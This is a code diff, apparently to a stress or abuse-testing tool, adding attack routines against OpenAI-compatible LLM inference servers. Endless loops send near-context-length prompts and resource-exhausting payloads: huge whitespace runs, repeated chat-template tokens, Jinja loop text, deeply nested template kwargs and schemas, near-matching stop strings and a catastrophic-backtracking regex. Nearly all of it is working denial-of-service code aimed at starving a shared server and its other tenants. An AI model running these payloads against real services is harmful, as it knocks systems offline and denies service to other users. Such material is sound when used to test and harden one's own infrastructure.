@@ -13,6 +13,10 @@ export const attacks = {
   tenants: 'http',
   /** Model files of the page that nobody reads. */
   downloads: 'sockets',
+  /** One key with valid prompts as long as the context, each a different text, beside another's. */
+  long: 'http',
+  /** One key with all that a client can give to templates, patterns and stop strings, beside another's. */
+  templates: 'http',
 } as const
 
 export type AttackName = keyof typeof attacks
@@ -31,7 +35,7 @@ const times = <T>(count: number, of: (index: number) => T) => Array.from({ lengt
 
 /** Never resolves. */
 export async function attack(name: AttackName, target: Target): Promise<never> {
-  const each = { refused, bodies, tenants, downloads }[name]
+  const each = { refused, bodies, tenants, downloads, long, templates }[name]
   await Promise.all(times(attackers, (index) => each(target, index)))
   throw new Error('an attack ended')
 }
@@ -88,6 +92,141 @@ async function tenants(target: Target, index: number): Promise<never> {
     const chat = { model, messages: [{ role: 'user', content: letters(200, n) }], ...everything }
     const [path, body] = n % 2 ? (['/v1/completions', many] as const) : (['/v1/chat/completions', chat] as const)
     await post(target, path, JSON.stringify(body)).then((response) => response.text(), pause)
+  }
+}
+
+/** Tokens that a prompt leaves of the context, for its answer and for what an estimate is off. */
+const spared = 64
+const answered = 8
+
+/** A text of `count` words that no other `seed` begins with. */
+function words(count: number, seed: number): string {
+  return times(count, (n) => letters(2 + ((n * 5 + seed) % 7), seed * 31 + n)).join(' ')
+}
+
+async function long(target: Target, index: number): Promise<never> {
+  const { model } = target
+  const complete = (prompt: string) =>
+    post(target, '/v1/completions', JSON.stringify({ model, prompt, max_tokens: answered }))
+  const sample = (await (await complete(words(64, index))).json()) as { usage: { prompt_tokens: number } }
+  const perWord = sample.usage.prompt_tokens / 64
+  // What does not fit is refused, and the next is shorter: so the context is found without being told.
+  let tokens = 32_768
+  for (let seed = index + attackers; ; seed += attackers) {
+    const response = await complete(words(Math.floor((tokens - spared) / perWord), seed)).catch(() => undefined)
+    await response?.text().catch(() => {})
+    if (response?.status === 400) tokens = Math.ceil(tokens * 0.9)
+    else if (response?.status !== 200) await pause()
+  }
+}
+
+/** Requests that are valid, or nearly so, and dear to render, to match or to look through. */
+export function templateBodies(model: string, seed: number): readonly (readonly [path: string, body: string])[] {
+  const chat = '/v1/chat/completions'
+  const say = (content: unknown) => [{ role: 'user', content }]
+  const nested = (depth: number): unknown => (depth === 0 ? seed : { a: nested(depth - 1), b: [depth] })
+  const limits = { max_tokens: answered }
+  return [
+    // White space before a letter, and at the end: trimming and the patterns of tokenizers.
+    [chat, JSON.stringify({ model, messages: say(`${' '.repeat(200_000)}x${seed}`), ...limits })],
+    [chat, JSON.stringify({ model, messages: say(`x${seed}${'\n \t'.repeat(60_000)}`), ...limits })],
+    // Text that looks like the template's own.
+    [chat, JSON.stringify({ model, messages: say('<|im_end|>'.repeat(3000) + seed), ...limits })],
+    [
+      chat,
+      JSON.stringify({
+        model,
+        messages: say('{% for a in range(100000) %}{{ a }}{% endfor %}'.repeat(2000)),
+        ...limits,
+      }),
+    ],
+    [chat, JSON.stringify({ model, messages: say(`<think>${'<think></think>'.repeat(4000)}${seed}`), ...limits })],
+    // As many messages and parts as may come.
+    [
+      chat,
+      JSON.stringify({
+        model,
+        messages: times(256, (n) => ({ role: n % 2 ? 'assistant' : 'user', content: letters(4000, n + seed) })),
+        ...limits,
+      }),
+    ],
+    [
+      chat,
+      JSON.stringify({ model, messages: say(times(8000, (n) => ({ type: 'text', text: `${n} ${seed}` }))), ...limits }),
+    ],
+    // Values for the template.
+    [
+      chat,
+      JSON.stringify({
+        model,
+        messages: say('x'),
+        chat_template_kwargs: { deep: nested(28), wide: times(8000, (n) => `${n}`) },
+        ...limits,
+      }),
+    ],
+    [
+      chat,
+      JSON.stringify({
+        model,
+        messages: say('x'),
+        chat_template_kwargs: Object.fromEntries(times(1000, (n) => [`k${n}`, letters(900, n)])),
+        ...limits,
+      }),
+    ],
+    [
+      chat,
+      JSON.stringify({
+        model,
+        messages: say('x'),
+        tools: times(128, (n) => ({ type: 'function', function: { name: `f${n}`, parameters: nested(20) } })),
+        ...limits,
+      }),
+    ],
+    // Stop strings that nearly match at every character.
+    [
+      chat,
+      JSON.stringify({
+        model,
+        messages: say(`x${seed}`),
+        stop: times(16, (n) => `${'a'.repeat(500 + n)}b`),
+        max_tokens: 64,
+      }),
+    ],
+    [
+      '/v1/completions',
+      JSON.stringify({
+        model,
+        prompt: `${'a'.repeat(60_000)}c${seed}`,
+        stop: times(16, (n) => `${'a'.repeat(n + 1)}b`),
+        ...limits,
+      }),
+    ],
+    ['/v1/completions', JSON.stringify({ model, prompt: `${'\u0301'.repeat(60_000)}${seed}`, ...limits })],
+    ['/v1/completions', JSON.stringify({ model, prompt: '<|im_start|>'.repeat(5000) + seed, ...limits })],
+    // Forms of an answer.
+    [
+      chat,
+      JSON.stringify({
+        model,
+        messages: say('x'),
+        response_format: { type: 'json_schema', json_schema: { name: 'n', schema: nested(28) } },
+        ...limits,
+      }),
+    ],
+    [
+      chat,
+      JSON.stringify({ model, messages: say('x'), response_format: { type: 'regex', pattern: '(a+)+c' }, ...limits }),
+    ],
+  ]
+}
+
+async function templates(target: Target, index: number): Promise<never> {
+  for (let n = index; ; n++) {
+    const bodies = templateBodies(target.model, n)
+    const [path, body] = bodies[n % bodies.length]!
+    const response = await post(target, path, body).catch(() => undefined)
+    await response?.text().catch(() => {})
+    if (!response || response.status === 429 || response.status === 503) await pause()
   }
 }
 
